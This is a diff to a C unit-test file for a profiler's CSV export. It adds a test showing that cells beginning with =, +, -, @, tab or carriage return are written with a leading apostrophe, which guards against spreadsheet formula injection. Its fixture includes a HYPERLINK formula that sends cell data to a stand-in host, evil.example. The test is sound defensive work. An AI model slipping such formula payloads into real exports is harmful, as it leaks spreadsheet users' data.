@@ -11,7 +11,9 @@
 **  - the task and cache CSVs are UTF-8 (a reader that decodes them, as
 **    pandas and Python's csv module do, must not fail), with a byte that
 **    is not UTF-8 taken as Latin-1, as the trace's \u00XX takes it, and
-**    each key reads back as one field;
+**    each key reads back as one field; a key, function or group that a
+**    spreadsheet would run as a formula (=, +, -, @, tab, CR first) is
+**    written as text ('=...), the number columns as they are;
 **  - the trace reads back when two task groups differ only in a byte that
 **    is not UTF-8 (its cache counter, one arg per group, has no repeated
 **    name).
@@ -190,6 +192,96 @@ static void test_csv(void **state)
     assert_int_equal(dusk_alloc_live(), live);
 }
 
+/* Formula injection (OWASP "CSV injection"): a text cell that begins with
+ * =, +, -, @, a tab or a carriage return is one a spreadsheet runs as a
+ * formula. Such keys, functions and groups are written quoted with a '
+ * in front; the number columns are not touched (a failed task's negative
+ * status stays a number), nor is any other text. */
+static int risky(const char *s) { return s[0] && strchr("=+-@\t\r", s[0]) != NULL; }
+
+static void test_csv_formulas(void **state)
+{
+    (void)state;
+    long live = dusk_alloc_live();
+    static const char trace[] =
+        "[{\"name\":\"f\",\"ph\":\"X\",\"ts\":0,\"dur\":5,\"tid\":0,"
+        "\"args\":{\"id\":0,\"bytes\":8,\"key\":\"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,"
+        "\\\"see\\\")\"}},\n"
+        "{\"name\":\"f\",\"ph\":\"X\",\"ts\":10,\"dur\":5,\"tid\":0,"
+        "\"args\":{\"id\":1,\"bytes\":8,\"key\":\"-1\",\"status\":-5}},\n"
+        "{\"name\":\"@fn\",\"ph\":\"X\",\"ts\":20,\"dur\":5,\"tid\":0,"
+        "\"args\":{\"id\":2,\"bytes\":8,\"key\":\"+1\"}},\n"
+        "{\"name\":\"f\",\"ph\":\"X\",\"ts\":30,\"dur\":5,\"tid\":0,"
+        "\"args\":{\"id\":3,\"bytes\":8,\"key\":\"@SUM(A1)\"}},\n"
+        "{\"name\":\"f\",\"ph\":\"X\",\"ts\":40,\"dur\":5,\"tid\":0,"
+        "\"args\":{\"id\":4,\"bytes\":8,\"key\":\"\\tx\"}},\n"
+        "{\"name\":\"f\",\"ph\":\"X\",\"ts\":50,\"dur\":5,\"tid\":0,"
+        "\"args\":{\"id\":5,\"bytes\":8,\"key\":\"\\rx\"}},\n"
+        "{\"name\":\"f\",\"ph\":\"X\",\"ts\":60,\"dur\":5,\"tid\":0,"
+        "\"args\":{\"id\":6,\"bytes\":8,\"key\":\"plain-2\"}}]";
+    dusk_profiler *p = NULL;
+    dusk_error err = DUSK_ERROR_INIT;
+    if (dusk_profiler_read_trace_buffer(trace, sizeof trace - 1, "t", &p, &err) != 0)
+        fail_msg("%s", err.msg);
+    assert_int_equal(dusk_profiler_ntasks(p), 7);
+    if (dusk_profiler_write_tasks_csv(p, scratch("formulas.csv"), &err) != 0)
+        fail_msg("tasks csv: %s", err.msg);
+    char *csv = slurp(scratch("formulas.csv"), NULL), *s = csv, *f[16];
+    /* as written: quoted, the ' inside the quotes; the status a bare number */
+    assert_contains(csv, "\n0,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"see\"\")\",f,");
+    assert_contains(csv, "\n1,\"'-1\",f,");
+    assert_contains(csv, ",-5\n2,\"'+1\",\"'@fn\",");
+    assert_contains(csv, "\n6,plain-2,f,plain,");
+    assert_int_equal(csv_record(&s, f, 16), 12);
+    const dusk_task_record *r = dusk_profiler_tasks(p);
+    size_t rows = 0;
+    while (*s) {
+        assert_int_equal(csv_record(&s, f, 16), 12);
+        const dusk_task_record *t = NULL;
+        for (size_t i = 0; i < 7; i++)
+            if (r[i].task == strtoll(f[0], NULL, 10))
+                t = &r[i];
+        assert_non_null(t);
+        const char *want[3] = {t->key, t->func, t->group};
+        for (int c = 0; c < 3; c++) {
+            char quoted[128];
+            snprintf(quoted, sizeof quoted, "%s%s", risky(want[c]) ? "'" : "", want[c]);
+            if (strcmp(f[1 + c], quoted) != 0)
+                fail_msg("task %lld, column %d: \"%s\", want \"%s\"", (long long)t->task,
+                         1 + c, f[1 + c], quoted);
+        }
+        /* the numbers: as they are, a negative one too */
+        char num[32];
+        snprintf(num, sizeof num, "%d", (int)t->status);
+        assert_string_equal(f[11], num);
+        snprintf(num, sizeof num, "%d", (int)t->worker);
+        assert_string_equal(f[4], num);
+        rows++;
+    }
+    assert_int_equal(rows, 7);
+    assert_int_equal(r[1].status, -5);
+    free(csv);
+
+    /* the cache CSV's group column too */
+    if (dusk_profiler_write_cache_csv(p, scratch("formulas-cache.csv"), &err) != 0)
+        fail_msg("cache csv: %s", err.msg);
+    csv = slurp(scratch("formulas-cache.csv"), NULL);
+    int quoted = 0;
+    s = csv;
+    assert_int_equal(csv_record(&s, f, 16), 3);
+    while (*s) {
+        assert_int_equal(csv_record(&s, f, 16), 3);
+        if (risky(f[1]))
+            fail_msg("the cache CSV has a group \"%s\"", f[1]);
+        quoted += f[1][0] == '\'';
+        assert_true(f[0][0] >= '0' && f[0][0] <= '9');
+    }
+    assert_true(quoted > 0);
+    free(csv);
+    dusk_profiler_free(p);
+    assert_int_equal(dusk_alloc_live(), live);
+}
+
 static void test_charts_and_report(void **state)
 {
     (void)state;
@@ -269,6 +361,7 @@ int main(void)
     const struct CMUnitTest tests[] = {
         cmocka_unit_test_teardown(test_charts_and_report, reset_alloc),
         cmocka_unit_test_teardown(test_csv, reset_alloc),
+        cmocka_unit_test_teardown(test_csv_formulas, reset_alloc),
         cmocka_unit_test_teardown(test_trace_groups_apart, reset_alloc),
     };
     return cmocka_run_group_tests_name("profiler_odd_names", tests, scratch_setup,
